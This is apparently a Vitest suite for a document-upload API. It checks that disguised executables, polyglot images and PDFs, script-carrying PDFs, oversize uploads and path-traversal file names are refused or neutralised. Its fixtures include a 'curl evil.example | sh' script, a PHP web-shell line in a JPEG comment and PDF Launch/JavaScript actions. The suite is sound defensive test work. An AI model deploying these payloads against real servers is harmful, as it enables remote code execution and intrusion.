import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { buildTestApp, describeEachDialect } from '../support/dialects';
import type { TestApp } from '../support/dialects';
import { MAX_FILE_BYTES, MAX_FILES_PER_ORDER } from '../../src/modules/documents';
import { findOrderByHash } from '../../src/modules/orders';
import { API_KEY, newOrder } from './fixtures';
import { ELF, HTML_PAGE, JPEG, jpegWithComment, MACHO, PE, pdfWith, TINY_PNG, zipWith } from './hostile-files';
import { envelopeProblem } from './hostile-requests';
import { multipartBody } from './multipart';
import type { Part } from './multipart';

/*
 * document-upload under attack. What is refused, and why:
 *
 * - Executables and web pages under a document's name: only the bytes count (file-sniff.ts).
 * - Polyglots, files that are a document *and* something else. An identity document never needs to
 *   be two things, and the second thing is the attack: a ZIP/JAR glued to a JPEG or PNG (ZIP readers
 *   start from the end), `%PDF-` followed by an executable or an HTML page (not a PDF at all: no
 *   `%%EOF`), a page of HTML or `<?php` hidden in a JPEG comment or after the image (served by a
 *   careless server or opened by a sniffing browser, it runs), a PDF that runs JavaScript, launches
 *   a program or carries an embedded file when an operator opens it (file-structure.ts).
 * - What stays allowed on purpose: data after a JPEG's image (phone cameras append their own trailers
 *   and Motion Photo videos) as long as it is not an archive or markup; whitespace after `%%EOF`.
 * - A file over 10 MB, two files in one request, more parts or fields than the form has, a seventh
 *   document on one order.
 *
 * A hostile *file name* on a real document is not refused: the name is never used as a path (the file
 * gets a random name in the order's folder) and is kept, cleaned, for display. That is checked below.
 *
 * After every refusal: a 4xx envelope, no file (not even a hidden temporary one) in the order's
 * folder, no media row; and at the end nothing at all outside the storage folder.
 */

type Body = { result: boolean; data?: { id: string; filename: string; mime: string }; error?: { code: string; message: string } };

/** A whole folder tree, hidden files included. */
const filesUnder = (dir: string): string[] =>
  !existsSync(dir) ? [] : readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => path.join(e.parentPath, e.name));

const file = (filename: string, body: Buffer, contentType = 'application/pdf'): Part => ({ name: 'file', filename, contentType, body });
const key: Part = { name: 'api_key', body: API_KEY };

const pdf = pdfWith();
const bigText = 'x'.repeat(2048);

const REFUSED: ReadonlyArray<{ what: string; parts: () => Part[]; status: number }> = [
  // Renamed executables and pages.
  { what: 'an ELF executable named .jpg', parts: () => [key, file('foto.jpg', ELF, 'image/jpeg')], status: 415 },
  { what: 'a Windows executable named .png', parts: () => [key, file('scansione.png', PE, 'image/png')], status: 415 },
  { what: 'a macOS executable named .pdf', parts: () => [key, file('carta.pdf', MACHO)], status: 415 },
  { what: 'a shell script named .jpg', parts: () => [key, file('foto.jpg', Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 'image/jpeg')], status: 415 },
  { what: 'an HTML page named .jpg', parts: () => [key, file('foto.jpg', Buffer.from(HTML_PAGE), 'image/jpeg')], status: 415 },
  { what: 'an SVG with a script named .png', parts: () => [key, file('foto.png', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'image/png')], status: 415 },
  { what: 'a ZIP archive named .pdf', parts: () => [key, file('documento.pdf', zipWith('a.exe', 'MZ'))], status: 415 },
  // Polyglots.
  { what: '%PDF- followed by an executable', parts: () => [key, file('carta.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), ELF]))], status: 415 },
  { what: '%PDF- followed by an HTML page', parts: () => [key, file('carta.pdf', Buffer.from(`%PDF-1.4\n${HTML_PAGE}`))], status: 415 },
  { what: 'a PDF with an HTML page appended', parts: () => [key, file('carta.pdf', Buffer.concat([pdf, Buffer.from(HTML_PAGE + bigText)]))], status: 415 },
  { what: 'a PDF with a short <script> after %%EOF', parts: () => [key, file('carta.pdf', Buffer.concat([pdf, Buffer.from('<script>alert(1)</script>')]))], status: 415 },
  { what: 'a PDF with a ZIP appended', parts: () => [key, file('carta.pdf', Buffer.concat([pdf, zipWith('run.exe', 'MZ payload')]))], status: 415 },
  {
    what: 'a PDF that runs JavaScript when opened',
    parts: () => [key, file('carta.pdf', pdfWith('/OpenAction 6 0 R', ["<< /Type /Action /S /JavaScript /JS (app.alert('x')) >>"]))],
    status: 415,
  },
  {
    what: 'a PDF whose JavaScript name is hidden in #xx escapes',
    parts: () => [key, file('carta.pdf', pdfWith('/OpenAction 6 0 R', ['<< /Type /Action /S /J#61vaScript /JS (1) >>']))],
    status: 415,
  },
  { what: 'a PDF that launches a program', parts: () => [key, file('carta.pdf', pdfWith('/OpenAction 6 0 R', ['<< /S /Launch /F (cmd.exe) >>']))], status: 415 },
  {
    what: 'a PDF carrying an embedded file',
    parts: () => [key, file('carta.pdf', pdfWith('/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>', ['<< /Type /Filespec /F (a.exe) >>']))],
    status: 415,
  },
  { what: 'a JPEG with a ZIP (JAR) appended', parts: () => [key, file('foto.jpg', Buffer.concat([JPEG, zipWith('META-INF/MANIFEST.MF', 'Main-Class: X')]), 'image/jpeg')], status: 415 },
  { what: 'a PNG with a ZIP appended', parts: () => [key, file('foto.png', Buffer.concat([TINY_PNG, zipWith('x.php', '<?php ?>')]), 'image/png')], status: 415 },
  { what: 'a PNG with anything after IEND', parts: () => [key, file('foto.png', Buffer.concat([TINY_PNG, Buffer.from('trailing')]), 'image/png')], status: 415 },
  { what: 'a JPEG with PHP in its comment segment', parts: () => [key, file('foto.jpg', jpegWithComment("<?php system($_GET['c']); ?>"), 'image/jpeg')], status: 415 },
  { what: 'a JPEG with a <script> appended', parts: () => [key, file('foto.jpg', Buffer.concat([JPEG, Buffer.from('<script>alert(1)</script>')]), 'image/jpeg')], status: 415 },
  { what: 'a JPEG with an HTML page appended', parts: () => [key, file('foto.jpg', Buffer.concat([JPEG, Buffer.from(HTML_PAGE)]), 'image/jpeg')], status: 415 },
  { what: 'a JPEG signature and nothing of a JPEG', parts: () => [key, file('foto.jpg', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(bigText)]), 'image/jpeg')], status: 415 },
  { what: 'a PNG cut before IEND', parts: () => [key, file('foto.png', TINY_PNG.subarray(0, TINY_PNG.length - 12), 'image/png')], status: 415 },
  // Sizes and counts.
  { what: 'a PDF one byte over 10 MB', parts: () => [key, file('grande.pdf', Buffer.concat([pdf, Buffer.alloc(MAX_FILE_BYTES + 1 - pdf.length, 0x20)]))], status: 413 },
  { what: 'two files in one request', parts: () => [key, file('a.pdf', pdf), file('b.pdf', pdf)], status: 422 },
  { what: 'a file under another field, then the file', parts: () => [key, { ...file('x.pdf', pdf), name: 'other' }, file('a.pdf', pdf)], status: 422 },
  { what: 'more text fields than the form has', parts: () => [key, ...Array.from({ length: 12 }, (_, i) => ({ name: `f${i}`, body: 'x' })), file('a.pdf', pdf)], status: 413 },
  // Hostile names on refused content: refused all the same, and nothing lands where the name points.
  { what: "an executable named '../../evil.pdf'", parts: () => [key, file('../../evil.pdf', ELF)], status: 415 },
  { what: 'an HTML page named with a NUL', parts: () => [key, file('foto.jpg\u0000.html', Buffer.from(HTML_PAGE), 'image/jpeg')], status: 415 },
];

describeEachDialect('hostile uploads', (dialect) => {
  let t: TestApp;
  /** The storage folder's parent: after the run it must hold the storage folder and nothing else. */
  let parent: string;
  let storage: string;

  beforeAll(async () => {
    parent = mkdtempSync(path.join(tmpdir(), 'checkout-hostile-uploads-'));
    storage = path.join(parent, 'storage');
    t = await buildTestApp(dialect, { coverage: true, config: { storageDir: storage } });
  });
  afterAll(async () => {
    await t?.close();
    rmSync(parent, { recursive: true, force: true });
  });

  const upload = async (hash: string, parts: Part[]) => {
    const res = await t.app.inject({ method: 'POST', url: `/api/orders/${hash}/document-upload`, ...multipartBody(parts) });
    return { res, status: res.statusCode, body: res.json() as Body };
  };
  const orderWithId = async () => {
    const hash = await newOrder(t);
    return { hash, id: (await findOrderByHash(t.db, hash))!.id };
  };
  const mediaRows = (orderId: string) => t.db.selectFrom('medias').select(['id', 'filename', 'stored_name']).where('order_id', '=', orderId).execute();

  it.each(REFUSED)('refuses $what with $status, leaving no file and no row', async ({ parts, status }) => {
    const { hash, id } = await orderWithId();
    const { res, body } = await upload(hash, parts());
    expect(res.statusCode, JSON.stringify(body)).toBe(status);
    expect(envelopeProblem(res)).toBeNull();
    expect(filesUnder(path.join(storage, id))).toEqual([]);
    expect(await mediaRows(id)).toEqual([]);
  });

  it(`refuses a document beyond ${MAX_FILES_PER_ORDER} per order, keeping the ${MAX_FILES_PER_ORDER} it has`, async () => {
    const { hash, id } = await orderWithId();
    for (let i = 0; i < MAX_FILES_PER_ORDER; i++) expect((await upload(hash, [key, file(`f${i}.png`, TINY_PNG, 'image/png')])).status).toBe(200);
    const { res } = await upload(hash, [key, file('troppi.png', TINY_PNG, 'image/png')]);
    expect(res.statusCode).toBe(409);
    expect(envelopeProblem(res)).toBeNull();
    expect(filesUnder(path.join(storage, id))).toHaveLength(MAX_FILES_PER_ORDER);
    expect(await mediaRows(id)).toHaveLength(MAX_FILES_PER_ORDER);
  });

  it.each([
    ['a PDF', 'carta.pdf', pdf, 'application/pdf'],
    ['a PDF with whitespace after %%EOF', 'carta.pdf', Buffer.concat([pdf, Buffer.from('\r\n\r\n  \n')]), 'application/pdf'],
    ['a JPEG', 'foto.jpg', JPEG, 'image/jpeg'],
    // What a phone camera appends after the image (here a Samsung-style trailer): a real photo, not a polyglot.
    ['a JPEG with a camera trailer', 'foto.jpg', Buffer.concat([JPEG, Buffer.from([0xff, 0xd9]), Buffer.alloc(300, 0x11), Buffer.from('SEFT')]), 'image/jpeg'],
    ['a PNG', 'scansione.png', TINY_PNG, 'image/png'],
  ] as const)('still accepts %s (the rules above refuse disguises, not documents)', async (_what, name, bytes, mime) => {
    const { hash, id } = await orderWithId();
    const { status, body } = await upload(hash, [key, file(name, bytes, 'application/octet-stream')]);
    expect(status, JSON.stringify(body)).toBe(200);
    expect(body.data!.mime).toBe(mime);
    expect(filesUnder(path.join(storage, id))).toHaveLength(1);
  });

  it('never uses a hostile file name as a path: the document gets a random name in its order folder', async () => {
    const absoluteTarget = path.join(parent, 'written-by-name.png');
    const names = [
      '../../../../etc/passwd.png', '..\\..\\..\\windows\\win.ini.png', absoluteTarget, `/${'a/'.repeat(50)}x.png`,
      '..', '.', '', 'a\u0000b.png', 'foto\u202egnp.exe', `${'n'.repeat(5000)}.png`, '%2e%2e%2fescape.png', 'CON', ' .png',
    ];
    for (const name of names) {
      const { hash, id } = await orderWithId();
      const { status, body } = await upload(hash, [key, file(name, TINY_PNG, 'image/png')]);
      expect(status, `${JSON.stringify(name)}: ${JSON.stringify(body)}`).toBe(200);
      // Shown name: no path, no control or direction characters, bounded.
      // eslint-disable-next-line no-control-regex -- control characters are exactly what must be absent
      expect(body.data!.filename, JSON.stringify(name)).not.toMatch(/[\\/\u0000-\u001f\u202a-\u202e\u2066-\u2069]/);
      expect(body.data!.filename.length).toBeLessThanOrEqual(120);
      const stored = filesUnder(path.join(storage, id));
      expect(stored.map((f) => path.basename(f))).toEqual([expect.stringMatching(/^[0-9a-f]{32}\.png$/)]);
      expect((await mediaRows(id)).map((r) => r.stored_name)).toEqual([path.basename(stored[0]!)]);
    }
    expect(existsSync(absoluteTarget)).toBe(false);
  });

  it('wrote nothing outside the storage folder, and no temporary file inside it', async () => {
    expect(readdirSync(parent)).toEqual(['storage']);
    // The development seal the signature module made at start (pdf-seal.ts) is the one file that is not a document.
    const seal = path.join(storage, 'seal', 'development-seal.p12');
    const all = filesUnder(storage).filter((f) => f !== seal);
    // Only finished documents: STORAGE/<order uuid>/<32 hex>.<ext>; no `.…tmp` left by a refusal.
    for (const f of all) expect(path.relative(storage, f)).toMatch(/^[0-9a-f-]{36}[\\/][0-9a-f]{32}\.(pdf|jpg|png)$/);
    const rows = await t.db.selectFrom('medias').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
    expect(all).toHaveLength(Number(rows.n));
  });
});
